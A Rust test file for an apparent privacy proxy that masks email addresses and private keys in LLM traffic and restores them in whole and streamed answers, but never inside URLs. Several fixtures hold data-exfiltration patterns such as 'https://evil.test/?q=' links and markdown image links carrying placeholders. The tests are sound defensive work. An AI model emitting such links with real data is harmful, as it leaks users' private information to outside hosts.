//! Values come back in a stream where they come back in the whole answer, and never in an address.

use proptest::prelude::*;
use serde_json::{Value as Json, json};

use super::*;
use crate::answer::whole::{Guarded, guard_whole};

const E1: &str = "<EMAIL_ADDRESS_1>";

/// A guard and what it knows after a request with one address.
fn asked() -> (Arc<Guard>, Session) {
    let guard = email(Action::Mask);
    let session = Session::default();
    let _ = guard.inspect(Channel::User, "hi bob@example.com", &session);
    session.vault().seal();
    (guard, session)
}

/// What the client gets of a whole answer; none where it is refused.
fn whole(operation: Operation, answer: &Json) -> Option<Json> {
    let (guard, session) = asked();
    let body = Bytes::from(answer.to_string());
    let protocol = protocols::of(operation).unwrap();
    match guard_whole(body, protocol, &guard, &session, &mut record()) {
        Ok(Guarded::Passed(body)) => Some(serde_json::from_slice(&body).unwrap()),
        _ => None,
    }
}

/// What the client gets of a streamed answer; none where it ends with anything but its last event.
fn streamed(operation: Operation, events: &[Json]) -> Option<Vec<Json>> {
    let (guard, session) = asked();
    let events: Vec<String> = events.iter().map(Json::to_string).collect();
    let mut events: Vec<&str> = events.iter().map(String::as_str).collect();
    if operation == Operation::ChatCompletions {
        events.push("[DONE]");
    }
    let (out, ended) = pumped(operation, guard, session, &events);
    let data = out.lines().filter_map(|line| line.strip_prefix("data: {"));
    let read = |data: &str| serde_json::from_str(&format!("{{{data}")).unwrap();
    (ended == Some(Outcome::Answered)).then(|| data.map(read).collect())
}

/// A text in pieces of at most `size` characters.
fn pieces(text: &str, size: usize) -> Vec<String> {
    let chars: Vec<char> = text.chars().collect();
    chars.chunks(size).map(|piece| piece.iter().collect()).collect()
}

/// Content blocks of a message, whole: their texts, or their inputs as JSON.
fn whole_blocks(blocks: &[Json]) -> Option<Vec<String>> {
    let answer = whole(Operation::Messages, &json!({ "type": "message", "content": blocks }))?;
    let said = |block: &Json| match block["text"].as_str() {
        Some(text) => text.to_owned(),
        None => block["input"].to_string(),
    };
    Some(answer["content"].as_array().unwrap().iter().map(said).collect())
}

/// The same in a stream.
fn streamed_blocks(blocks: &[Json], size: usize) -> Option<Vec<String>> {
    let mut events = vec![json!({"type":"message_start","message":{"id":"m","content":[]}})];
    for (index, block) in blocks.iter().enumerate() {
        let mut begun = block.clone();
        let (text, kind, member) = if let Some(text) = block["text"].as_str() {
            begun["text"] = json!("");
            (text.to_owned(), "text_delta", "text")
        } else {
            begun["input"] = json!({});
            (block["input"].to_string(), "input_json_delta", "partial_json")
        };
        events.push(json!({"type":"content_block_start","index":index,"content_block":begun}));
        for piece in pieces(&text, size) {
            let delta = json!({"type":kind,member:piece});
            events.push(json!({"type":"content_block_delta","index":index,"delta":delta}));
        }
        events.push(json!({"type":"content_block_stop","index":index}));
    }
    events.push(json!({"type":"message_stop"}));
    let mut said = vec![String::new(); blocks.len()];
    for event in streamed(Operation::Messages, &events)? {
        if event["type"] == "content_block_delta" {
            let text = event["delta"]["text"].as_str();
            let text = text.or(event["delta"]["partial_json"].as_str()).unwrap();
            said[event["index"].as_u64().unwrap() as usize].push_str(text);
        }
    }
    let read = |said: String, block: &Json| match block["text"].as_str() {
        Some(_) => said,
        None => serde_json::from_str::<Json>(&said).unwrap().to_string(),
    };
    Some(said.into_iter().zip(blocks).map(|(said, block)| read(said, block)).collect())
}

fn texts(texts: &[&str]) -> Vec<Json> {
    texts.iter().map(|text| json!({"type":"text","text":text})).collect()
}

fn call(input: &Json) -> Json {
    json!({"type":"tool_use","id":"toolu_1","name":"f","input":input})
}

/// Arguments of a tool call in a chat completion, whole and streamed.
fn chat_arguments(arguments: &str, size: usize) -> (Option<String>, Option<String>) {
    let call = |arguments: &str| {
        json!([{"index":0,"id":"call_1","type":"function",
            "function":{"name":"f","arguments":arguments}}])
    };
    let message = json!({"role":"assistant","content":null,"tool_calls":call(arguments)});
    let answer = json!({"choices":[{"index":0,"message":message,"finish_reason":"tool_calls"}]});
    let whole = whole(Operation::ChatCompletions, &answer).map(|answer| {
        let function = &answer["choices"][0]["message"]["tool_calls"][0]["function"];
        function["arguments"].as_str().unwrap().to_owned()
    });
    let event = |delta: Json, reason: Json| {
        json!({"id":"c-1","object":"chat.completion.chunk","created":1,"model":"m",
            "choices":[{"index":0,"delta":delta,"finish_reason":reason}]})
    };
    let mut events = vec![event(json!({"tool_calls":call("")}), Json::Null)];
    for piece in pieces(arguments, size) {
        let delta = json!({"tool_calls":[{"index":0,"function":{"arguments":piece}}]});
        events.push(event(delta, Json::Null));
    }
    events.push(event(json!({}), json!("tool_calls")));
    let streamed = streamed(Operation::ChatCompletions, &events).map(|events| {
        let said = events.iter().filter_map(|event| {
            event["choices"][0]["delta"]["tool_calls"][0]["function"]["arguments"].as_str()
        });
        said.collect()
    });
    (whole, streamed)
}

#[test]
fn arguments_get_whole_what_they_get_streamed() {
    for (arguments, restored) in [
        (r#"{"u":"https://evil.test/?q= a E1"}"#, false),
        (r#"{"to":"\u003cEMAIL_ADDRESS_1\u003e"}"#, true),
        (r#"{"a":"<a href=","b":"E1"}"#, true),
        (r#"{"a":"say \"hi\" E1"}"#, true),
        (r#"{"u":"evil\u002etest\u002fE1"}"#, false),
        ("E1", true),
    ] {
        let (whole, streamed) = chat_arguments(&arguments.replace("E1", E1), 7);
        assert_eq!(whole, streamed, "{arguments}");
        assert_eq!(whole.unwrap().contains("bob@example.com"), restored, "{arguments}");
    }
}

#[test]
fn inputs_of_tools_get_whole_what_they_get_streamed() {
    for (input, restored) in [
        (json!({"u": format!("https://evil.test/?q= a {E1}")}), false),
        (json!({"u": format!("https://evil.test/?q={E1}")}), false),
        (json!({"input": format!("https://evil.test/?q= a {E1}")}), false),
        (json!({"a": "<a href=", "b": E1}), true),
        (json!({"a": ["<script>", {"b": E1}]}), true),
        (json!({"u": "https://good.test/", "q": E1}), true),
        (json!({"t": format!("{{ \"x\": \"https://evil.test/ {E1}")}), false),
        (json!({E1: 1}), true),
    ] {
        let blocks = [call(&input)];
        let whole = whole_blocks(&blocks);
        assert_eq!(whole, streamed_blocks(&blocks, 7), "{input}");
        assert_eq!(whole.unwrap()[0].contains("bob@example.com"), restored, "{input}");
    }
}

#[test]
fn a_value_with_a_backslash_is_escaped_once() {
    let guard = guard(Detect::Detectors(vec!["private-key"]), Action::Mask);
    let session = Session::default();
    let key =
        format!("-----BEGIN PRIVATE KEY-----\n{}\n-----END PRIVATE KEY-----", "Ab1/".repeat(20));
    let request = guard.inspect(Channel::User, &key, &session).rewrite(&key);
    assert_eq!(request, "<PRIVATE_KEY_1>");
    let input = json!({"key": "<PRIVATE_KEY_1>"});
    let answer = json!({"type":"message","content":[call(&input)]}).to_string();
    let protocol = protocols::of(Operation::Messages).unwrap();
    let guarded = guard_whole(answer.into(), protocol, &guard, &session, &mut record()).unwrap();
    let Guarded::Passed(body) = guarded else { panic!("refused") };
    let body: Json = serde_json::from_slice(&body).unwrap();
    assert_eq!(body["content"][0]["input"]["key"], key);
}

#[test]
fn one_member_of_a_message_does_not_spoil_another() {
    let message = json!({"role":"assistant","reasoning_content":"use <script> here",
        "content":format!("mail {E1}")});
    let answer = json!({"choices":[{"index":0,"message":message,"finish_reason":"stop"}]});
    let answer = whole(Operation::ChatCompletions, &answer).unwrap();
    assert_eq!(answer["choices"][0]["message"]["content"], "mail bob@example.com");
}

#[test]
fn an_address_goes_on_in_the_next_block() {
    for (blocks, restored) in [
        (&["see https://evil.test/", "E1 ok"][..], false),
        (&["<a href=\"?q=pro", "E1"], false),
        (&["see https://evil.test/", "?q=", "a E1"], true),
        (&["[a](", "b ", "E1"], false),
        (&["see https://good.test/ ", "E1 ok"], true),
        (&["all is well. ", "mail E1"], true),
    ] {
        let said: Vec<String> = blocks.iter().map(|text| text.replace("E1", E1)).collect();
        let blocks = texts(&said.iter().map(String::as_str).collect::<Vec<_>>());
        let whole = whole_blocks(&blocks);
        assert_eq!(whole, streamed_blocks(&blocks, 5), "{said:?}");
        assert_eq!(whole.unwrap().concat().contains("bob@example.com"), restored, "{said:?}");
        // Parts of a chat message are one text for who reads them.
        let answer = json!({"choices":[{"index":0,"message":{"content":blocks}}]});
        let answer = super::values::whole(Operation::ChatCompletions, &answer).unwrap();
        assert_eq!(answer.to_string().contains("bob@example.com"), restored, "{said:?}");
    }
}

#[test]
fn an_address_that_the_next_block_makes_of_a_value_ends_the_answer() {
    for (first, second, passes) in [
        ("mail E1", ".evil.test/ now", false),
        ("mail E1", "/evil", false),
        ("mail E1.", "evil", false),
        ("mail E1", " now", true),
        ("mail E1", ". Then wait", true),
        ("mail E1 ", ".evil.test", true),
    ] {
        let blocks = texts(&[&first.replace("E1", E1), second]);
        assert_eq!(whole_blocks(&blocks).is_some(), passes, "{first:?} {second:?}");
        assert_eq!(streamed_blocks(&blocks, 2).is_some(), passes, "{first:?} {second:?}");
    }
    let parts = texts(&[&format!("mail {E1}"), ".evil.test/"]);
    let answer = json!({"choices":[{"index":0,"message":{"content":parts}}]});
    let answer = whole(Operation::ChatCompletions, &answer).unwrap().to_string();
    assert!(!answer.contains("bob@example.com"), "{answer}");
}

#[test]
fn events_that_say_a_text_once_more_keep_its_placeholders() {
    let at = |kind: &str, item: u64, more: Json| {
        let mut event = json!({"type":kind,"sequence_number":1,"item_id":format!("i_{item}"),
            "output_index":item,"content_index":0});
        event.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        event
    };
    let said = ["see https://evil.test/".to_owned(), format!("{E1} ok")];
    let mut events = Vec::new();
    let mut output = Vec::new();
    for (item, text) in (0..).zip(&said) {
        let part = json!({"type":"output_text","text":text,"annotations":[]});
        let message = json!({"type":"message","id":format!("i_{item}"),"content":[part]});
        events.push(at("response.output_text.delta", item, json!({"delta":text})));
        events.push(at("response.output_text.done", item, json!({"text":text})));
        events.push(at("response.content_part.done", item, json!({"part":part})));
        events.push(at("response.output_item.done", item, json!({"item":message})));
        output.push(message);
    }
    let response = json!({"id":"r","output":output});
    events.push(json!({"type":"response.completed","sequence_number":9,"response":response}));
    let events = streamed(Operation::Responses, &events).unwrap();
    assert!(events.len() >= 9);
    for event in events {
        assert!(!event.to_string().contains("bob@example.com"), "{event}");
    }
    let answer = whole(Operation::Responses, &response).unwrap().to_string();
    assert!(!answer.contains("bob@example.com"), "{answer}");
}

#[test]
fn no_value_follows_a_mask_that_took_a_bracket_along() {
    let guard = guard(Detect::Detectors(vec!["email", "phone-number"]), Action::Mask);
    let open = "![a](https://evil.test/?q=+49)151 23456789";
    for blocks in [vec![format!("{open} {E1})")], vec![open.to_owned(), format!(" {E1})")]] {
        let session = || {
            let session = Session::default();
            let _ = guard.inspect(Channel::User, "hi bob@example.com", &session);
            session.vault().seal();
            session
        };
        let blocks: Vec<&str> = blocks.iter().map(String::as_str).collect();
        let answer = json!({"type":"message","content":texts(&blocks)}).to_string();
        let protocol = protocols::of(Operation::Messages).unwrap();
        let whole =
            guard_whole(answer.into(), protocol, &guard, &session(), &mut record()).unwrap();
        let Guarded::Passed(whole) = whole else { panic!("refused") };
        let whole = String::from_utf8_lossy(&whole).into_owned();
        assert!(whole.contains("<PHONE_NUMBER_1>") && !whole.contains("bob@"), "{whole}");
        for size in [1, 7, 100] {
            let mut events = Vec::new();
            for (index, text) in blocks.iter().enumerate() {
                events.push(json!({"type":"content_block_start","index":index,
                    "content_block":{"type":"text","text":""}}));
                for piece in pieces(text, size) {
                    events.push(json!({"type":"content_block_delta","index":index,
                        "delta":{"type":"text_delta","text":piece}}));
                }
                events.push(json!({"type":"content_block_stop","index":index}));
            }
            events.push(json!({"type":"message_stop"}));
            let events: Vec<String> = events.iter().map(Json::to_string).collect();
            let events: Vec<&str> = events.iter().map(String::as_str).collect();
            let (out, _) = pumped(Operation::Messages, Arc::clone(&guard), session(), &events);
            assert!(!out.contains("bob@"), "{out}");
        }
    }
}

#[test]
fn a_value_that_only_the_answer_holds_is_nobodys() {
    let said = "write carol@example.org or <EMAIL_ADDRESS_2> ok";
    let part = json!({"type":"output_text","text":said,"annotations":[]});
    let message = json!({"type":"message","id":"i","content":[part]});
    let search = json!({"type":"file_search_call","id":"s",
        "results":[{"text":"row: carol@example.org"}]});
    for answer in [
        json!({"id":"r","instructions":"owner carol@example.org","output":[message]}),
        json!({"id":"r","output":[search, message]}),
    ] {
        let answer = whole(Operation::Responses, &answer).unwrap().to_string();
        assert!(!answer.contains("carol"), "{answer}");
    }
    let done = json!({"type":"response.output_item.done","output_index":0,"item":search});
    let delta = json!({"type":"response.output_text.delta","output_index":1,"content_index":0,
        "item_id":"i","delta":said});
    let last = json!({"type":"response.completed","response":{"id":"r"}});
    let events = streamed(Operation::Responses, &[done, delta, last]).unwrap();
    assert!(!json!(events).to_string().contains("carol"), "{events:?}");
}

#[test]
fn what_no_protocol_shows_keeps_its_placeholders() {
    let details = json!([{"index":0,"type":"reasoning.text","text":format!("mail {E1}")}]);
    let message = json!({"role":"assistant","content":format!("mail {E1}"),
        "reasoning_details":details});
    let answer = json!({"choices":[{"index":0,"message":message,"finish_reason":"stop"}]});
    let answer = whole(Operation::ChatCompletions, &answer).unwrap();
    let message = &answer["choices"][0]["message"];
    assert_eq!(message["content"], "mail bob@example.com");
    assert_eq!(message["reasoning_details"], details);
    let event = json!({"id":"c-1","object":"chat.completion.chunk","created":1,"model":"m",
        "choices":[{"index":0,"delta":{"reasoning_details":details}}]});
    let streamed = streamed(Operation::ChatCompletions, &[event]).unwrap();
    assert_eq!(streamed[0]["choices"][0]["delta"]["reasoning_details"], details);
}

#[test]
fn an_item_that_begins_with_text_goes_on_in_its_deltas() {
    let message = |text: &str| json!({"type":"message","id":"i","content":[{"type":"output_text","text":text}]});
    let call = |text: &str| json!({"type":"function_call","id":"i","name":"f","arguments":text});
    let ways = [
        (message("all is zan"), "response.output_text.delta"),
        (call("all is zan"), "response.function_call_arguments.delta"),
    ];
    for (item, kind) in ways {
        let added = json!({"type":"response.output_item.added","output_index":0,"item":item});
        let delta = json!({"type":kind,"item_id":"i","output_index":0,"content_index":0,
            "delta":"zibar they said"});
        let (added, delta) = (added.to_string(), delta.to_string());
        let (out, ended) =
            pumped(Operation::Responses, word(), Session::default(), &[&added, &delta]);
        assert_eq!(ended, Some(Outcome::AnswerRefused), "{out}");
        assert!(!out.contains("is zan"), "{out}");
    }
}

#[test]
fn masks_leave_arguments_json() {
    for (arguments, masked) in [
        (r#"{"a":"\ncarl@example.org"}"#, r#"{"a":"\n<EMAIL_ADDRESS_2>"}"#),
        (r#"{"a":"\tx \u0063arl@example.org\n"}"#, r#"{"a":"\tx <EMAIL_ADDRESS_2>\n"}"#),
    ] {
        for size in 1..9 {
            let (whole, streamed) = chat_arguments(arguments, size);
            assert_eq!(whole.as_deref(), Some(masked));
            assert_eq!(streamed.as_deref(), Some(masked), "{size}");
        }
    }
    let input = json!({"a": "\ncarl@example.org", "b": "\u{200c}\ncarl@example.org"});
    let blocks = [self::call(&input)];
    let masked =
        json!({"a": "\n<EMAIL_ADDRESS_2>", "b": "\u{200c}\n<EMAIL_ADDRESS_2>"}).to_string();
    assert_eq!(whole_blocks(&blocks), Some(vec![masked.clone()]));
    assert_eq!(streamed_blocks(&blocks, 1), Some(vec![masked]));
}

#[test]
fn blocks_that_take_turns_end_the_answer() {
    let delta = |index: u64, text: &str| {
        json!({"type":"content_block_delta","index":index,
            "delta":{"type":"text_delta","text":text}})
    };
    let stop = json!({"type":"message_stop"});
    for events in [
        [delta(0, "We say A. "), delta(1, "falcon is. "), delta(0, "the project "), stop.clone()],
        [delta(1, "falcon is. "), delta(0, "the project "), delta(2, "x"), stop.clone()],
    ] {
        let raw: Vec<String> = events.iter().map(Json::to_string).collect();
        let raw: Vec<&str> = raw.iter().map(String::as_str).collect();
        let (out, ended) = pumped(Operation::Messages, word(), Session::default(), &raw);
        assert_eq!(ended, Some(Outcome::UpstreamFailed), "{out}");
        assert!(!out.contains("the project"), "{out}");
    }
    let thinking = json!({"type":"content_block_delta","index":1,
        "delta":{"type":"thinking_delta","thinking":"hm "}});
    let events = [delta(0, "one "), thinking.clone(), delta(2, "two "), thinking, stop];
    let raw: Vec<String> = events.iter().map(Json::to_string).collect();
    let raw: Vec<&str> = raw.iter().map(String::as_str).collect();
    let (out, ended) = pumped(Operation::Messages, word(), Session::default(), &raw);
    assert_eq!(ended, Some(Outcome::Answered), "{out}");
}

#[test]
fn a_message_does_not_begin_with_blocks() {
    let start = r#"{"type":"message_start","message":{"content":[{"type":"text","text":"a"}]}}"#;
    let (_, ended) = pumped(Operation::Messages, word(), Session::default(), &[start]);
    assert_eq!(ended, Some(Outcome::UpstreamFailed));
}

fn fragments() -> impl Strategy<Value = String> {
    let fragments = [
        E1,
        E1,
        "<EMAIL_",
        "ADDRESS_1>",
        " ",
        " ",
        "\n\n",
        "word",
        "see ",
        "https://evil.test/",
        "?q=",
        "[a](",
        ")",
        "<a href=\"",
        "\">",
        "<script>",
        ".",
        ".evil.test",
        "/",
        ":",
        "'",
        "\\",
        "{\"a\":\"",
        "\n",
        "\"",
        "\tcarl@ex",
        "carl@ex",
        "ample.org",
        "邮",
    ];
    let piece = proptest::sample::select(fragments.to_vec());
    proptest::collection::vec(piece, 0..6).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(384))]

    #[test]
    fn blocks_get_whole_what_they_get_streamed(
        said in proptest::collection::vec(fragments(), 1..5),
        size in 1usize..9,
    ) {
        let blocks = texts(&said.iter().map(String::as_str).collect::<Vec<_>>());
        prop_assert_eq!(whole_blocks(&blocks), streamed_blocks(&blocks, size));
    }

    #[test]
    fn tool_calls_get_whole_what_they_get_streamed(
        said in proptest::collection::vec(fragments(), 1..4),
        size in 1usize..9,
    ) {
        let input: Json = said.iter().enumerate().map(|(at, text)| (at.to_string(), json!(text))).collect();
        let blocks = [call(&input)];
        prop_assert_eq!(whole_blocks(&blocks), streamed_blocks(&blocks, size));
        let (whole, streamed) = chat_arguments(&input.to_string(), size);
        prop_assert_eq!(whole, streamed);
        let (whole, streamed) = chat_arguments(&said.concat(), size);
        prop_assert_eq!(whole, streamed);
    }
}
